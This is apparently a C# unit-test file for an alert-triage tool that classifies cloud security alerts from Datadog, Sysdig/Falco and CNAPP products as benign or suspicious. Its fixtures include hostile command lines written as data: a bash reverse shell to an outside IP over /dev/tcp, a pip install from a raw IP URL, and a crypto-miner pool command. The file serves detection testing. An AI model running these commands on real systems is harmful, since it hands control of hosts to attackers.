using Verdict.Analysis;
using Verdict.Context;
using Verdict.Ingest;

namespace Verdict.Tests.Analysis.Families;

/// <summary>
/// Cloud alerts read by schemas many products share: a JSON:API resource with an exporter's annotations beside it
/// (Datadog's standard attributes inside), Falco's field names nested under a product's own parent (Sysdig Secure's
/// content.fields), a CNAPP finding whose account_name is the cloud account. Hand-written; each benign reading closes
/// its case and the attack in the same clothes stays open.
/// </summary>
public sealed class CloudSchemaReadingTests
{
    private const string Runner = "4.175.22.10";

    private static EnvironmentContext Context()
    {
        var egress = new IpRangeSet();
        Assert.True(egress.TryAdd("4.175.22.0/24"));
        return FamilyFixtures.Context() with { AutomationEgress = egress };
    }

    private static Assessment Assess(string json) =>
        FamilyFixtures.Triage([new FamilyFixture("s0", json.ReplaceLineEndings(" "), true, "")], Context())[0].Assessment!;

    private static Verdict.Alerts.Alert Read(string json) =>
        JsonAlertReader.Read(new MemoryStream(System.Text.Encoding.UTF8.GetBytes(json.ReplaceLineEndings(" "))), "s.jsonl", Context()).Single().Value!;

    /// <summary>A cloud SIEM signal as a JSON:API resource, with an eval label beside it.</summary>
    private static string Signal(string role, string ip, string call = "DeleteDetector") => $$$"""
        {"id": "sig-1", "type": "signal", "attributes": {"timestamp": "2026-11-18T14:00:00.000Z", "message": "Detector deleted.",
         "attributes": {"workflow": {"rule": {"name": "GuardDuty detector deleted"}}, "title": "GuardDuty detector deleted", "severity": "high",
          "usr": {"id": "arn:aws:sts::123456789012:assumed-role/{{{role}}}/pipeline-42", "name": "pipeline-42"},
          "network": {"client": {"ip": "{{{ip}}}"}}, "evt": {"name": "{{{call}}}", "outcome": "success"}, "region": "us-east-1"}},
         "label": "BENIGN"}
        """;

    [Fact]
    public void A_json_api_signal_with_a_label_beside_it_is_read_by_its_standard_attributes()
    {
        var a = Read(Signal("svc-terraform", Runner));
        Assert.Equal("GuardDuty detector deleted", a.Rule);
        Assert.Equal("pipeline-42", a.User);
        Assert.Equal(Runner, a.SourceIp);
        Assert.Contains(a.Fields, f => f.Key == "label" && f.Value == "BENIGN");
    }

    [Fact]
    public void Automation_deleting_a_detector_from_its_runners_closes_but_the_same_role_from_elsewhere_stays_open()
    {
        var runner = Assess(Signal("svc-terraform", Runner));
        Assert.Contains(runner.Evidence, e => e.Key == "automation_verified");
        Assert.Equal(Classification.Benign, runner.Classification);

        var stolen = Assess(Signal("svc-terraform", "102.89.34.117"));
        Assert.Contains(stolen.Evidence, e => e.Key == "automation_unusual_source");
        Assert.NotEqual(Classification.Benign, stolen.Classification);
    }

    /// <summary>A Sysdig Secure event: Falco's fields under content.fields, severity 0 the most severe.</summary>
    private static string Sysdig(string rule, string fields, int severity = 0) => $$$"""
        {"id": "sd-1", "timestamp": "2026-11-18T14:00:00.000Z", "originator": "policy", "category": "runtime", "source": "syscall",
         "name": "{{{rule}}}", "severity": {{{severity}}}, "content": {"policyId": "p-1", "ruleName": "{{{rule}}}", "ruleType": "RULE_TYPE_FALCO",
         "fields": {{{fields}}}}, "labels": {"host.hostName": "node-3.internal"}}
        """;

    [Fact]
    public void Falco_fields_under_a_products_parent_are_read_and_the_kubectl_user_wins_over_the_unix_user()
    {
        var a = Read(Sysdig("Terminal shell in container", """{"proc.cmdline": "bash", "proc.pname": "runc", "user.name": "root", "ka.user.name": "cloud.admin", "k8s.pod.name": "api-1"}""", 5));
        Assert.Equal("Terminal shell in container", a.Rule);
        Assert.Equal("cloud.admin", a.User);
        Assert.Equal("bash", a.CommandLine);
        Assert.Null(a.DetectorSeverity); // Sysdig's 0..7 runs the other way: not read upside down
    }

    [Fact]
    public void A_mining_pool_command_in_a_container_stays_open_though_its_severity_number_is_zero()
    {
        var miner = Assess(Sysdig("Detect crypto miners using the Stratum protocol",
            """{"proc.cmdline": "./python3 -o stratum+tcp://pool.example.net:4444 -u x -p x", "proc.pname": "sh", "k8s.pod.name": "debug-1"}"""));
        Assert.Contains(miner.Evidence, e => e.Key == "crypto_miner");
        Assert.Contains(miner.Evidence, e => e.Key == "rule_names_threat"); // "crypto miners", plural
        Assert.NotEqual(Classification.Benign, miner.Classification);
    }

    [Fact]
    public void A_cloudtrail_event_in_falco_fields_names_its_caller_and_address()
    {
        var a = Read(Sysdig("CloudTrail Logging Disabled", """{"ct.name": "StopLogging", "ct.user": "ci-user", "ct.srcip": "102.89.34.117", "ct.region": "us-east-1", "user.name": "root"}"""));
        Assert.Equal("ci-user", a.User);
        Assert.Equal("102.89.34.117", a.SourceIp);
        var stopped = Assess(Sysdig("CloudTrail Logging Disabled", """{"ct.name": "StopLogging", "ct.user": "ci-user", "ct.srcip": "102.89.34.117", "ct.region": "us-east-1"}"""));
        Assert.Contains(stopped.Evidence, e => e.Key == "logging_disabled");
        Assert.NotEqual(Classification.Benign, stopped.Classification);
    }

    /// <summary>A CNAPP finding: a machine type beside its readable string, the cloud account's name and id.</summary>
    private static string Finding(string type, string title, string category, string source) => $$$"""
        {"alert_id": "f-1", "type": "{{{type}}}", "type_string": "{{{title}}}", "category": "{{{category}}}", "description": "{{{title}}}.",
         "state": {"status": "open", "created_at": "2026-11-18T14:00:00+00:00"}, "asset_name": "vm-7", "cloud_provider": "aws",
         "cloud_account_id": "123456789012", "account_name": "prod-workloads", "source": "{{{source}}}"}
        """;

    [Fact]
    public void A_vulnerability_finding_closes_as_posture_and_its_cloud_account_is_no_user()
    {
        var read = Read(Finding("vulnerability", "Vulnerable package openssl 3.0.1", "Vulnerabilities", "vm-7"));
        Assert.Equal("Vulnerable package openssl 3.0.1", read.Rule);
        Assert.Null(read.User);
        var vuln = Assess(Finding("vulnerability", "Vulnerable package openssl 3.0.1", "Vulnerabilities", "vm-7"));
        Assert.Contains(vuln.Evidence, e => e.Key == "posture_finding");
        Assert.Equal(Classification.Benign, vuln.Classification);
    }

    [Theory]
    // Orca names the account's provider (cloud_provider) and its id elsewhere; Prisma Cloud's accountName sits beside cloudType.
    [InlineData("""{"alert_id": "orca-1", "type": "volume_unencrypted", "type_string": "Unencrypted volume", "cloud_provider": "aws", "cloud_vendor_id": "123456789012", "account_name": "prod-workloads"}""")]
    [InlineData("""{"alertId": "P-1", "policyName": "AWS EBS volume unencrypted", "cloudType": "aws", "accountName": "prod-workloads", "accountId": "123456789012"}""")]
    public void An_account_name_beside_the_cloud_provider_is_the_cloud_account_not_a_user(string record) =>
        Assert.Null(Read(record).User);

    [Fact]
    public void An_eicar_only_malware_finding_is_the_test_file_but_one_naming_a_miner_beside_it_is_not()
    {
        var test = Assess(Finding("malware_found", "Malware EICAR-Test-File found on asset", "Malware", "vm-7"));
        Assert.Contains(test.Evidence, e => e.Key == "av_test_file");

        var miner = Assess(Finding("malware_found", "Malware EICAR-Test-File and Linux.Trojan.CoinMiner found on asset", "Malware", "vm-7"));
        Assert.DoesNotContain(miner.Evidence, e => e.Key == "av_test_file");
        Assert.NotEqual(Classification.Benign, miner.Classification);
    }
    [Fact]
    public void A_ci_jobs_package_install_closes_but_a_reverse_shell_in_the_same_pod_stays_open()
    {
        const string pod = "runner-ab12c-project-7-concurrent-0";
        var build = Assess(Sysdig("Drift Detection: Executable not part of the container image",
            $$$"""{"proc.cmdline": "/builds/app/bin/Release/testhost --port 4100", "proc.pname": "dotnet", "k8s.ns.name": "ci", "k8s.pod.name": "{{{pod}}}"}""", 5));
        Assert.Contains(build.Evidence, e => e.Key == "ci_build_job");
        Assert.Equal(Classification.Benign, build.Classification);

        var shell = Assess(Sysdig("Redirect STDOUT/STDIN to Network Connection in Container",
            $$$"""{"proc.cmdline": "bash -i >& /dev/tcp/102.89.34.117/4444 0>&1", "proc.pname": "sh", "k8s.ns.name": "ci", "k8s.pod.name": "{{{pod}}}"}""", 5));
        Assert.DoesNotContain(shell.Evidence, e => e.Key == "ci_build_job");
        Assert.NotEqual(Classification.Benign, shell.Classification);
    }

    [Fact]
    public void Pip_in_a_notebook_closes_but_pip_fetching_from_a_url_does_not()
    {
        var notebook = Assess(Sysdig("Launch Package Management Process in Container",
            """{"proc.cmdline": "pip install pandas==2.2.3", "proc.name": "pip", "proc.pname": "bash", "k8s.pod.name": "jupyter-analyst1", "container.image.repository": "quay.io/jupyter/scipy-notebook"}""", 5));
        Assert.Contains(notebook.Evidence, e => e.Key == "notebook_package_install");
        Assert.Equal(Classification.Benign, notebook.Classification);

        var fetched = Assess(Sysdig("Launch Package Management Process in Container",
            """{"proc.cmdline": "pip install http://102.89.34.117/pkg.tar.gz", "proc.name": "pip", "proc.pname": "bash", "k8s.pod.name": "jupyter-analyst1", "container.image.repository": "quay.io/jupyter/scipy-notebook"}""", 5));
        Assert.DoesNotContain(fetched.Evidence, e => e.Key == "notebook_package_install");
        Assert.NotEqual(Classification.Benign, fetched.Classification);
    }

    [Fact]
    public void A_privileged_node_agent_from_its_vendors_registry_closes_but_a_look_alike_image_does_not()
    {
        static string Agent(string repo) => Sysdig("Launch Privileged Container",
            $$$"""{"proc.cmdline": "agent run", "container.privileged": "true", "k8s.ns.name": "monitoring", "k8s.pod.name": "datadog-agent-x1", "container.image.repository": "{{{repo}}}"}""", 4);
        var agent = Assess(Agent("gcr.io/datadoghq/agent"));
        Assert.Contains(agent.Evidence, e => e.Key == "node_agent_image");
        Assert.Equal(Classification.Benign, agent.Classification);

        var lookalike = Assess(Agent("docker.io/datadoghq-agent/agent"));
        Assert.DoesNotContain(lookalike.Evidence, e => e.Key == "node_agent_image");
        Assert.NotEqual(Classification.Benign, lookalike.Classification);
    }
    [Fact]
    public void A_port_check_to_an_internal_service_closes_but_a_shell_handed_to_the_socket_does_not()
    {
        var probe = Assess(Sysdig("Redirect STDOUT/STDIN to Network Connection in Container",
            """{"proc.cmdline": "bash -c exec 3<>/dev/tcp/orders-db.prod.internal/5432", "proc.pname": "sh", "k8s.pod.name": "orders-api-1"}""", 3));
        Assert.Contains(probe.Evidence, e => e.Key == "port_check");
        Assert.Equal(Classification.Benign, probe.Classification);

        var shell = Assess(Sysdig("Redirect STDOUT/STDIN to Network Connection in Container",
            """{"proc.cmdline": "bash -c exec 3<>/dev/tcp/orders-db.prod.internal/5432; sh <&3 >&3 2>&3", "proc.pname": "sh", "k8s.pod.name": "orders-api-1"}""", 3));
        Assert.DoesNotContain(shell.Evidence, e => e.Key == "port_check");
        Assert.NotEqual(Classification.Benign, shell.Classification);

        var outside = Assess(Sysdig("Redirect STDOUT/STDIN to Network Connection in Container",
            """{"proc.cmdline": "bash -c exec 3<>/dev/tcp/102.89.34.117/4444", "proc.pname": "sh", "k8s.pod.name": "orders-api-1"}""", 3));
        Assert.DoesNotContain(outside.Evidence, e => e.Key == "port_check");
        Assert.NotEqual(Classification.Benign, outside.Classification);
    }

    [Fact]
    public void A_listed_admins_kubectl_shell_in_hours_closes_but_another_users_does_not()
    {
        static string Shell(string who) => Sysdig("Terminal shell in container",
            $$$"""{"proc.cmdline": "bash", "proc.name": "bash", "proc.pname": "runc", "user.name": "root", "ka.user.name": "{{{who}}}", "k8s.pod.name": "api-1"}""", 5);
        var admin = Assess(Shell("cloud.admin"));
        Assert.Contains(admin.Evidence, e => e.Key == "admin_kubectl_shell");
        Assert.Equal(Classification.Benign, admin.Classification);

        var other = Assess(Shell("j.random"));
        Assert.DoesNotContain(other.Evidence, e => e.Key == "admin_kubectl_shell");
        Assert.NotEqual(Classification.Benign, other.Classification);
    }
}
